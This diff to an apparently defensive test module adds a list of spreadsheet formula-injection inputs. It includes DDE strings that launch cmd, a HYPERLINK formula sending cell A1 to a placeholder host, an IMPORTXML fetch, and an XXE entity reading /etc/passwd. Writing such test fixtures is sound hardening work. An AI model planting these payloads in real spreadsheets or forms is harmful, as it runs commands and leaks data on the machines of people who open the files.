@@ -70,6 +70,29 @@ def answered(value: Value) -> Answer:
 
 
 BESIDE = ("conflicts", "opinions", "situation", "first_checked_at", "corrected")
+INJECTIONS = (
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\u00a0=1+1",
+    "\uff1d1+1",
+    "=cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"x")',
+    '=HYPERLINK("http://exemple.invalid?x="&A1;"clic")',
+    '=IMPORTXML("http://exemple.invalid";"//a")',
+    'a";=1+1;"b',
+    "a;=1+1",
+    "a\r\n=1+1;b",
+    "&xxe; <!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
+    "]]></t></is></c><c><f>1+1</f></c>",
+    "_x003D_1+1",
+)
+"""What strangers type to have a spreadsheet run something."""
 BLANK = Answer(AnswerState.BLANK)
 NOT_ASKED = Answer(AnswerState.NOT_ASKED)
 PDF = Attachment("rcp.pdf", 2048, "abc", "application/pdf", "safe", MOMENT)
